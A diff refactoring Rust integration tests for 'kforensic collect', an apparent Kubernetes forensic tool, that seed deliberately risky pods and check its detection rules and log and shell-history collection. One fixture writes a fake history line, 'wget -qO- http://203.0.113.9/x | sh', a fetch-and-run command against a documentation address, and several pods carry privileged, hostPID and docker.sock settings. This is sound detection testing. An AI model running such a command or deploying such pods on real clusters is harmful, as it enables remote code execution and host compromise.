@@ -1,8 +1,7 @@
 //! `kforensic collect` against the real test cluster: seeded bad objects and clean look-alikes,
 //! every rule fires exactly on its bad objects; secrets stay metadata unless asked; pages.
 
-mod common;
-
+use crate::support::{self, pod::{BUSYBOX, Pod}};
 use serde_json::Value;
 use std::collections::{BTreeMap, BTreeSet};
 use std::path::{Path, PathBuf};
@@ -17,7 +16,7 @@ fn read_ndjson(path: &Path) -> Vec<Value> {
 
 /// Deletes the cluster-scoped objects a test created (namespaces go with their guards).
 struct ClusterObjects {
-    env: &'static common::TestEnv,
+    env: &'static support::TestEnv,
     objects: Vec<String>,
 }
 impl Drop for ClusterObjects {
@@ -31,28 +30,14 @@ impl Drop for ClusterObjects {
 }
 
 /// A pod that never runs: no scheduler picks it up, so it needs no node and no image.
-fn pod(ns: &str, name: &str, spec_extra: &str, container_extra: &str) -> String {
-    pod_with_image(ns, name, PINNED, spec_extra, container_extra)
+fn never_runs(ns: &str, name: &str) -> Pod {
+    never_runs_with_image(ns, name, PINNED)
 }
-fn pod_with_image(ns: &str, name: &str, image: &str, spec_extra: &str, container_extra: &str) -> String {
-    format!(
-        "---
-apiVersion: v1
-kind: Pod
-metadata: {{name: {name}, namespace: {ns}}}
-spec:
-  schedulerName: kforensic-test-none
-  automountServiceAccountToken: false
-{spec_extra}
-  containers:
-  - name: c
-    image: \"{image}\"
-{container_extra}
-"
-    )
+fn never_runs_with_image(ns: &str, name: &str, image: &str) -> Pod {
+    Pod::new(ns, name).spec("{schedulerName: kforensic-test-none, automountServiceAccountToken: false}").container("c", image)
 }
 
-fn cronjob_version(env: &common::TestEnv) -> &'static str {
+fn cronjob_version(env: &support::TestEnv) -> &'static str {
     let v1 = env.kubectl_raw(&["get", "--raw", "/apis/batch/v1"], None);
     if String::from_utf8_lossy(&v1.stdout).contains("\"cronjobs\"") { "batch/v1" } else { "batch/v1beta1" }
 }
@@ -83,13 +68,13 @@ spec:
 
 /// Whether the API server admits privileged containers (`--allow-privileged`); the test
 /// cluster's 1.20 apiserver may not.
-fn privileged_allowed(env: &common::TestEnv, ns: &str) -> bool {
-    let probe = pod(ns, "probe-privileged", "", "    securityContext: {privileged: true}");
+fn privileged_allowed(env: &support::TestEnv, ns: &str) -> bool {
+    let probe = never_runs(ns, "probe-privileged").with("securityContext: {privileged: true}").yaml();
     let out = env.kubectl_raw(&["apply", "--dry-run=server", "-f", "-"], Some(&probe));
     out.status.success()
 }
 
-fn wait_for_token(env: &common::TestEnv, ns: &str, sa: &str) {
+fn wait_for_token(env: &support::TestEnv, ns: &str, sa: &str) {
     let deadline = Instant::now() + Duration::from_secs(30);
     loop {
         let out = env.kubectl_raw(&["-n", ns, "get", "serviceaccount", sa, "-o", "jsonpath={.secrets[0].name}"], None);
@@ -107,7 +92,7 @@ fn bundle_dir(dest: &Path, case: &str) -> PathBuf {
 
 #[test]
 fn collect_rules_fire_exactly_on_seeded_bad_objects() {
-    let Some(env) = common::require("collect_rules_fire_exactly_on_seeded_bad_objects", common::CLUSTER) else { return };
+    let Some(env) = support::require("collect_rules_fire_exactly_on_seeded_bad_objects", support::CLUSTER) else { return };
     let a = env.namespace("col");
     let b = env.namespace("colnp");
     let (na, nb) = (a.name.as_str(), b.name.as_str());
@@ -149,31 +134,41 @@ metadata: {{name: rbac-sa, namespace: {na}}}
     let secret_value = format!("kf-secret-value-{}", std::process::id());
     let mut yaml = String::new();
     if privileged_ok {
-        yaml += &pod(na, "p-privileged", "", "    securityContext: {privileged: true}");
+        yaml += &never_runs(na, "p-privileged").with("securityContext: {privileged: true}").yaml();
     }
-    yaml += &pod(na, "p-clean", "  volumes: [{name: h, hostPath: {path: /etc}}, {name: v, hostPath: {path: /var/log}}]",
-        "    securityContext: {privileged: false, runAsUser: 1000, allowPrivilegeEscalation: false, capabilities: {add: [NET_BIND_SERVICE], drop: [ALL]}}
-    volumeMounts: [{name: h, mountPath: /h, readOnly: true}, {name: v, mountPath: /v, readOnly: true}]");
-    yaml += &pod(na, "p-hostpid", "  hostPID: true", "");
-    yaml += &pod(na, "p-hostipc", "  hostIPC: true", "");
-    yaml += &pod(na, "p-hostnet", "  hostNetwork: true", "");
-    yaml += &pod(na, "p-caps", "", "    securityContext: {capabilities: {add: [SYS_ADMIN]}}");
-    yaml += &pod(na, "p-ape", "", "    securityContext: {allowPrivilegeEscalation: true}");
-    yaml += &pod(na, "p-root", "  securityContext: {runAsUser: 0}", "");
-    yaml += &pod(na, "p-hostpath", "  volumes: [{name: h, hostPath: {path: /var/log/kforensic-test}}]", "    volumeMounts: [{name: h, mountPath: /h}]");
-    yaml += &pod(na, "p-hostpath-etc", "  volumes: [{name: h, hostPath: {path: /etc}}]", "    volumeMounts: [{name: h, mountPath: /h}]");
-    yaml += &pod(na, "p-docker-sock", "  volumes: [{name: h, hostPath: {path: /var/run/docker.sock}}]", "    volumeMounts: [{name: h, mountPath: /var/run/docker.sock}]");
-    yaml += &pod_with_image(na, "p-tag", "test.local/busybox:1", "", "");
-    yaml += &pod_with_image(na, "p-latest", "test.local/busybox:latest", "", "");
+    yaml += &never_runs(na, "p-clean")
+        .spec("volumes: [{name: h, hostPath: {path: /etc}}, {name: v, hostPath: {path: /var/log}}]")
+        .with("securityContext: {privileged: false, runAsUser: 1000, allowPrivilegeEscalation: false, capabilities: {add: [NET_BIND_SERVICE], drop: [ALL]}}")
+        .with("volumeMounts: [{name: h, mountPath: /h, readOnly: true}, {name: v, mountPath: /v, readOnly: true}]")
+        .yaml();
+    yaml += &never_runs(na, "p-hostpid").spec("hostPID: true").yaml();
+    yaml += &never_runs(na, "p-hostipc").spec("hostIPC: true").yaml();
+    yaml += &never_runs(na, "p-hostnet").spec("hostNetwork: true").yaml();
+    yaml += &never_runs(na, "p-caps").with("securityContext: {capabilities: {add: [SYS_ADMIN]}}").yaml();
+    yaml += &never_runs(na, "p-ape").with("securityContext: {allowPrivilegeEscalation: true}").yaml();
+    yaml += &never_runs(na, "p-root").spec("securityContext: {runAsUser: 0}").yaml();
+    yaml += &never_runs(na, "p-hostpath")
+        .spec("volumes: [{name: h, hostPath: {path: /var/log/kforensic-test}}]")
+        .with("volumeMounts: [{name: h, mountPath: /h}]")
+        .yaml();
+    yaml += &never_runs(na, "p-hostpath-etc")
+        .spec("volumes: [{name: h, hostPath: {path: /etc}}]")
+        .with("volumeMounts: [{name: h, mountPath: /h}]")
+        .yaml();
+    yaml += &never_runs(na, "p-docker-sock")
+        .spec("volumes: [{name: h, hostPath: {path: /var/run/docker.sock}}]")
+        .with("volumeMounts: [{name: h, mountPath: /var/run/docker.sock}]")
+        .yaml();
+    yaml += &never_runs_with_image(na, "p-tag", "test.local/busybox:1").yaml();
+    yaml += &never_runs_with_image(na, "p-latest", "test.local/busybox:latest").yaml();
     // privileged (hostPID) with the token of priv-sa mounted (pod and account leave automount unset)
-    yaml += &pod(na, "p-sa-priv", "  serviceAccountName: priv-sa\n  hostPID: true", "")
-        .replace("  automountServiceAccountToken: false\n", "");
+    let never_scheduled = "schedulerName: kforensic-test-none";
+    yaml += &Pod::new(na, "p-sa-priv").spec(never_scheduled).spec("{serviceAccountName: priv-sa, hostPID: true}").container("c", PINNED).yaml();
     // privileged (hostPID), but quiet-sa does not automount its token
-    yaml += &pod(na, "p-sa-quiet", "  serviceAccountName: quiet-sa\n  hostPID: true", "")
-        .replace("  automountServiceAccountToken: false\n", "");
+    yaml += &Pod::new(na, "p-sa-quiet").spec(never_scheduled).spec("{serviceAccountName: quiet-sa, hostPID: true}").container("c", PINNED).yaml();
     // more pods than one page holds (--page-size 4 below)
     for i in 0..6 {
-        yaml += &pod(nb, &format!("p-filler-{i}"), "", "");
+        yaml += &never_runs(nb, &format!("p-filler-{i}")).yaml();
     }
     // a job (its pod never runs either), a secret applied with kubectl (its value then sits
     // in the last-applied annotation too), a network policy in the second namespace only
@@ -290,7 +285,7 @@ webhooks:
         "collect", "-n", na, "-n", nb, "--since", &since_arg, "--dest", dest.path().to_str().unwrap(),
         "--case-id", "col-rules", "--page-size", "4", "-o", "json",
     ]);
-    assert_eq!(out.status.code(), Some(0), "collect failed:\n{}\n{}", common::stdout(&out), common::stderr(&out));
+    assert_eq!(out.status.code(), Some(0), "collect failed:\n{}\n{}", support::stdout(&out), support::stderr(&out));
     let report: Value = serde_json::from_slice(&out.stdout).expect("-o json prints one JSON document");
     assert_eq!(report["complete"], true);
     let triage = bundle_dir(dest.path(), "col-rules").join("triage");
@@ -411,7 +406,7 @@ webhooks:
         "collect", "-n", na, "--sources", "secrets", "--include-secret-values", "--dest", dest.path().to_str().unwrap(),
         "--case-id", "col-values", "-q",
     ]);
-    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
+    assert_eq!(out.status.code(), Some(0), "{}", support::stderr(&out));
     let secrets = read_ndjson(&bundle_dir(dest.path(), "col-values").join("triage/secrets.ndjson"));
     let s = secrets.iter().find(|s| s["name"] == "col-secret").unwrap();
     assert_eq!(s["object"]["data"]["password"], b64.as_str());
@@ -426,39 +421,26 @@ webhooks:
 
 #[test]
 fn collect_logs_current_and_previous() {
-    let Some(env) = common::require("collect_logs_current_and_previous", common::CLUSTER) else { return };
+    let Some(env) = support::require("collect_logs_current_and_previous", support::CLUSTER) else { return };
     let ns = env.namespace("collogs");
     let image = env.var("KF_BUSYBOX_IMAGE");
-    env.apply(&format!(
-        "---
-apiVersion: v1
-kind: Pod
-metadata: {{name: talker, namespace: {n}, labels: {{app: talk}}}}
-spec:
-  automountServiceAccountToken: false
-  terminationGracePeriodSeconds: 1
-  containers:
-  - name: c
-    image: {image}
-    command: [sh, -c, 'echo kf-log-line-one; echo kf-log-line-two; sleep 100000']
----
-apiVersion: v1
-kind: Pod
-metadata: {{name: crasher, namespace: {n}, labels: {{app: crash}}}}
-spec:
-  automountServiceAccountToken: false
-  terminationGracePeriodSeconds: 1
-  volumes: [{{name: m, emptyDir: {{}}}}]
-  containers:
-  - name: c
-    image: {image}
-    volumeMounts: [{{name: m, mountPath: /m}}]
-    # first run fails, the restarted one stays up: its previous instance is then the only
-    # dead one, which the kubelet keeps (it removes older dead instances)
-    command: [sh, -c, 'if [ -f /m/ran ]; then echo kf-second-run; sleep 100000; else touch /m/ran; echo kf-first-run; exit 3; fi']
-",
-        n = ns.name
-    ));
+    let talker = Pod::new(&ns.name, "talker")
+        .label("app", "talk")
+        .spec("automountServiceAccountToken: false")
+        .grace(1)
+        .container("c", image)
+        .sh("echo kf-log-line-one; echo kf-log-line-two; sleep 100000");
+    // first run fails, the restarted one stays up: its previous instance is then the only
+    // dead one, which the kubelet keeps (it removes older dead instances)
+    let crasher = Pod::new(&ns.name, "crasher")
+        .label("app", "crash")
+        .spec("automountServiceAccountToken: false")
+        .grace(1)
+        .spec("volumes: [{name: m, emptyDir: {}}]")
+        .container("c", image)
+        .with("volumeMounts: [{name: m, mountPath: /m}]")
+        .sh("if [ -f /m/ran ]; then echo kf-second-run; sleep 100000; else touch /m/ran; echo kf-first-run; exit 3; fi");
+    env.apply(&(talker.yaml() + &crasher.yaml()));
     env.wait_running(&ns.name, "talker", 60);
     let deadline = Instant::now() + Duration::from_secs(60);
     loop {
@@ -474,7 +456,7 @@ spec:
 
     let dest = tempfile::tempdir().unwrap();
     let out = env.kforensic(&["collect", "-n", &ns.name, "--sources", "logs,pods,images", "--dest", dest.path().to_str().unwrap(), "--case-id", "logs", "-q"]);
-    assert_eq!(out.status.code(), Some(0), "{}\n{}", common::stdout(&out), common::stderr(&out));
+    assert_eq!(out.status.code(), Some(0), "{}\n{}", support::stdout(&out), support::stderr(&out));
     let lines = read_ndjson(&dest.path().join("logs/triage/logs.ndjson"));
     let talker: Vec<&Value> = lines.iter().filter(|l| l["name"] == "talker").collect();
     let texts: Vec<&str> = talker.iter().filter_map(|l| l["line"].as_str()).collect();
@@ -503,7 +485,7 @@ spec:
 
     // -l narrows pods and their logs
     let out = env.kforensic(&["collect", "-n", &ns.name, "-l", "app=talk", "--sources", "logs,pods", "--dest", dest.path().to_str().unwrap(), "--case-id", "logs-sel", "-q"]);
-    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
+    assert_eq!(out.status.code(), Some(0), "{}", support::stderr(&out));
     let lines = read_ndjson(&dest.path().join("logs-sel/triage/logs.ndjson"));
     assert!(!lines.is_empty() && lines.iter().all(|l| l["name"] == "talker"));
     let pods = read_ndjson(&dest.path().join("logs-sel/triage/pods.ndjson"));
@@ -512,12 +494,12 @@ spec:
 
 #[test]
 fn collect_as_a_restricted_user_is_partial_and_says_what_failed() {
-    let Some(env) = common::require("collect_as_a_restricted_user_is_partial_and_says_what_failed", common::CLUSTER) else { return };
+    let Some(env) = support::require("collect_as_a_restricted_user_is_partial_and_says_what_failed", support::CLUSTER) else { return };
     let dest = tempfile::tempdir().unwrap();
     let out = env.kforensic_as(env.view_kubeconfig(), &[
         "collect", "-n", "kft-view", "--sources", "pods,secrets,events", "--dest", dest.path().to_str().unwrap(), "--case-id", "view", "-o", "json",
     ]);
-    assert_eq!(out.status.code(), Some(3), "partial evidence exits 3:\n{}\n{}", common::stdout(&out), common::stderr(&out));
+    assert_eq!(out.status.code(), Some(3), "partial evidence exits 3:\n{}\n{}", support::stdout(&out), support::stderr(&out));
     let report: Value = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!(report["complete"], false);
     let src = |s: &str| report["sources"].as_array().unwrap().iter().find(|x| x["source"] == s).unwrap().clone();
@@ -530,23 +512,23 @@ fn collect_as_a_restricted_user_is_partial_and_says_what_failed() {
 
 #[test]
 fn collect_refuses_what_it_cannot_do() {
-    let out = common::kforensic(&["collect", "--image", "x"]);
+    let out = support::kforensic(&["collect", "--image", "x"]);
     assert_eq!(out.status.code(), Some(2), "--image goes with --shell-history");
-    assert!(common::stderr(&out).contains("--shell-history"), "{}", common::stderr(&out));
-    let out = common::kforensic(&["collect", "-A", "-n", "x"]);
+    assert!(support::stderr(&out).contains("--shell-history"), "{}", support::stderr(&out));
+    let out = support::kforensic(&["collect", "-A", "-n", "x"]);
     assert_eq!(out.status.code(), Some(2));
-    let out = common::kforensic(&["collect", "--sources", "pods,bogus"]);
+    let out = support::kforensic(&["collect", "--sources", "pods,bogus"]);
     assert_eq!(out.status.code(), Some(2));
-    assert!(common::stderr(&out).contains("bogus"));
+    assert!(support::stderr(&out).contains("bogus"));
 }
 
 #[test]
 fn collect_runs_complete_with_the_shipped_read_only_role() {
-    let Some(env) = common::require("collect_runs_complete_with_the_shipped_read_only_role", common::CLUSTER) else { return };
+    let Some(env) = support::require("collect_runs_complete_with_the_shipped_read_only_role", support::CLUSTER) else { return };
     let ns = env.namespace("colrbac");
     let n = ns.name.as_str();
     // the shipped role under a unique name, bound to a service account of this test
-    let role = std::fs::read_to_string(common::repo_root().join("deploy/rbac-collect.yaml")).unwrap();
+    let role = std::fs::read_to_string(support::repo_root().join("deploy/rbac-collect.yaml")).unwrap();
     assert!(role.contains("name: kforensic-collect\n"));
     let role = role.replace("name: kforensic-collect\n", &format!("name: {n}-collect\n"));
     let _cluster = ClusterObjects { env, objects: vec![format!("clusterrole/{n}-collect"), format!("clusterrolebinding/{n}-collect")] };
@@ -570,18 +552,12 @@ subjects: [{{kind: ServiceAccount, name: responder, namespace: {n}}}]
 "
     ));
     // a running pod, so that logs are really fetched (pods/log)
-    env.apply(&format!(
-        "---
-apiVersion: v1
-kind: Pod
-metadata: {{name: runner, namespace: {n}}}
-spec:
-  automountServiceAccountToken: false
-  terminationGracePeriodSeconds: 1
-  containers: [{{name: c, image: {image}, command: [sh, -c, 'echo kf-ro-log; sleep 100000']}}]
-",
-        image = env.var("KF_BUSYBOX_IMAGE")
-    ));
+    let runner = Pod::new(n, "runner")
+        .spec("automountServiceAccountToken: false")
+        .grace(1)
+        .container("c", env.var("KF_BUSYBOX_IMAGE"))
+        .sh("echo kf-ro-log; sleep 100000");
+    env.apply(&runner.yaml());
     env.wait_running(n, "runner", 60);
     let deadline = Instant::now() + Duration::from_secs(30);
     let token = loop {
@@ -603,7 +579,7 @@ spec:
     )).unwrap();
     let out = env.kforensic_as(kc.to_str().unwrap(), &["collect", "-A", "--dest", dir.path().to_str().unwrap(), "--case-id", "ro", "-o", "json"]);
     let report: Value = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
-    assert_eq!(out.status.code(), Some(0), "collect -A with the shipped role:\n{}\n{}", common::stdout(&out), common::stderr(&out));
+    assert_eq!(out.status.code(), Some(0), "collect -A with the shipped role:\n{}\n{}", support::stdout(&out), support::stderr(&out));
     assert_eq!(report["complete"], true);
     assert_eq!(report["sources"].as_array().unwrap().len(), 15, "every source ran");
     let logs = read_ndjson(&dir.path().join("ro/triage/logs.ndjson"));
@@ -612,26 +588,15 @@ spec:
 
 #[test]
 fn shell_history_is_read_from_the_nodes_and_what_intruders_type_is_ranked_high() {
-    let Some(env) = common::require("shell_history_is_read_from_the_nodes_and_what_intruders_type_is_ranked_high", common::CLUSTER) else { return };
+    let Some(env) = support::require("shell_history_is_read_from_the_nodes_and_what_intruders_type_is_ranked_high", support::CLUSTER) else { return };
     let ns = env.namespace("col-hist");
     // one pod whose shell history shows a download run through a shell, one with an ordinary
     // history, one with none (the address is a documentation one, never contacted)
-    let typed = "ls /tmp\\nwget -qO- http://203.0.113.9/x | sh\\nexit\\n";
-    for (name, history) in [("intruded", Some(typed)), ("ordinary", Some("ls\\nps\\n")), ("silent", None)] {
+    let typed = "ls /tmp\nwget -qO- http://203.0.113.9/x | sh\nexit\n";
+    for (name, history) in [("intruded", Some(typed)), ("ordinary", Some("ls\nps\n")), ("silent", None)] {
         let write = history.map(|h| format!("printf '{h}' > /root/.ash_history; ")).unwrap_or_default();
-        env.apply(&format!(
-            "apiVersion: v1
-kind: Pod
-metadata: {{name: {name}, namespace: {ns}}}
-spec:
-  terminationGracePeriodSeconds: 1
-  containers:
-  - name: app
-    image: test.local/busybox:1
-    command: [\"sh\", \"-c\", \"mkdir -p /root; {write}exec sleep 100000\"]
-",
-            ns = ns.name
-        ));
+        let pod = Pod::new(&ns.name, name).grace(1).container("app", BUSYBOX).sh(&format!("mkdir -p /root; {write}exec sleep 100000"));
+        env.apply(&pod.yaml());
     }
     for name in ["intruded", "ordinary", "silent"] {
         env.wait_running(&ns.name, name, 60);
@@ -642,7 +607,7 @@ spec:
         "collect", "-n", &ns.name, "--sources", "pods", "--shell-history", "--image", env.kforensic_image(), "--pull-policy", "never",
         "--dest", dest.path().to_str().unwrap(), "--case-id", "hist", "-o", "json",
     ]);
-    assert_eq!(out.status.code(), Some(0), "{}\n{}", common::stdout(&out), common::stderr(&out));
+    assert_eq!(out.status.code(), Some(0), "{}\n{}", support::stdout(&out), support::stderr(&out));
     let report: Value = serde_json::from_slice(&out.stdout).unwrap();
     let bundle = bundle_dir(dest.path(), "hist");
     // the history files, byte for byte, from the node side
@@ -664,16 +629,16 @@ spec:
     assert!(report["findings"].to_string().contains("download piped into a shell"), "{}", report["findings"]);
     let h = &report["shell_history"];
     assert_eq!((h["nodes"].as_u64(), h["containers"].as_u64(), h["files"].as_u64()), (Some(1), Some(3), Some(2)), "{h}");
-    let v = common::kforensic(&["verify", bundle.to_str().unwrap()]);
-    assert_eq!(v.status.code(), Some(0), "{}{}", common::stdout(&v), common::stderr(&v));
+    let v = support::kforensic(&["verify", bundle.to_str().unwrap()]);
+    assert_eq!(v.status.code(), Some(0), "{}{}", support::stdout(&v), support::stderr(&v));
     // no collector pod stays on any node
     let left = env.kubectl_raw(&["-n", "kforensic", "get", "pods", "-l", "kforensic.io/case=hist", "-o", "name"], None);
-    assert_eq!(common::stdout(&left).trim(), "", "collector pod left behind");
+    assert_eq!(support::stdout(&left).trim(), "", "collector pod left behind");
 }
 
 #[test]
 fn shell_history_without_the_collector_permissions_is_partial_and_names_what_was_refused() {
-    let Some(env) = common::require("shell_history_without_the_collector_permissions_is_partial_and_names_what_was_refused", common::CLUSTER)
+    let Some(env) = support::require("shell_history_without_the_collector_permissions_is_partial_and_names_what_was_refused", support::CLUSTER)
     else {
         return;
     };
@@ -687,7 +652,7 @@ fn shell_history_without_the_collector_permissions_is_partial_and_names_what_was
         "--dest", dest.path().to_str().unwrap(), "--case-id", "hist-ro", "-o", "json",
     ]);
     // the API side is collected; the node side is refused, said, and the bundle is incomplete
-    assert_eq!(out.status.code(), Some(3), "{}\n{}", common::stdout(&out), common::stderr(&out));
+    assert_eq!(out.status.code(), Some(3), "{}\n{}", support::stdout(&out), support::stderr(&out));
     let manifest: Value = serde_json::from_slice(&std::fs::read(bundle_dir(dest.path(), "hist-ro").join("manifest.json")).unwrap()).unwrap();
     assert_eq!(manifest["complete"], false);
     let errors = manifest["errors"].to_string();
